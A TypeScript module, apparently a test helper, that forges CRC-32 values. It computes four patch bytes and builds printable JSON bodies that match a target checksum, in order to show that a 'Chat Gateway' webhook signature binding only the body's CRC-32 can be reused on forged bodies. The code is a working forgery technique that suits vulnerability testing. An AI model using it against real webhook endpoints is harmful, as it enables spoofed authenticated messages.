// CRC-32 forgery, as an attacker does it: four chosen bytes make any message have any CRC-32. The
// Chat Gateway's webhook signature binds only the CRC-32 of the body, so a body written this way
// carries another delivery's valid signature (see the webhook forgery test).
import { crc32 } from 'node:zlib';

const TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
/** The table index whose entry has this top byte (each top byte occurs exactly once). */
const BY_TOP_BYTE = new Map(TABLE.map((v, i) => [v >>> 24, i]));

/** One CRC step backwards: the register before `byte` was fed, given the register after. */
function unstep(after: number, byte: number): number {
  const i = BY_TOP_BYTE.get(after >>> 24)!;
  return (((after ^ TABLE[i]!) << 8) | (i ^ byte)) >>> 0;
}

/**
 * Four bytes X such that crc32(prefix + X + suffix) === target: run the target back through the
 * suffix, then solve the four steps from the prefix's register to that one.
 */
export function crcPatch(prefix: Buffer, suffix: Buffer, target: number): Buffer {
  let wanted = ~target >>> 0;
  for (let i = suffix.length - 1; i >= 0; i--) wanted = unstep(wanted, suffix[i]!);
  // The four table indices, found backwards from their top bytes alone.
  const indices: number[] = [];
  let reg = wanted;
  for (let k = 0; k < 4; k++) {
    const i = BY_TOP_BYTE.get(reg >>> 24)!;
    indices.unshift(i);
    reg = ((reg ^ TABLE[i]!) << 8) >>> 0;
  }
  // Forward from the prefix's register, each byte picks its index.
  let state = ~crc32(prefix) >>> 0;
  const patch = Buffer.alloc(4);
  for (let k = 0; k < 4; k++) {
    patch[k] = (state ^ indices[k]!) & 0xff;
    state = ((state >>> 8) ^ TABLE[indices[k]!]!) >>> 0;
  }
  return patch;
}

/**
 * A JSON body (`fields` plus a padding field) whose CRC-32 equals `target`, its four patch bytes
 * inside a JSON string: a nonce changes until they are printable and need no escaping.
 */
export function forgeJsonWithCrc(fields: Record<string, unknown>, target: number): Buffer {
  const safe = (b: number) => b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c;
  for (let nonce = 0; nonce < 100_000; nonce++) {
    const head = JSON.stringify({ ...fields, nonce });
    const prefix = Buffer.from(`${head.slice(0, -1)},"pad":"`);
    const suffix = Buffer.from('"}');
    const patch = crcPatch(prefix, suffix, target);
    if (![...patch].every(safe)) continue;
    const body = Buffer.concat([prefix, patch, suffix]);
    if (crc32(body) >>> 0 !== target >>> 0) throw new Error('CRC forgery arithmetic is wrong');
    return body;
  }
  throw new Error('no printable CRC patch found');
}
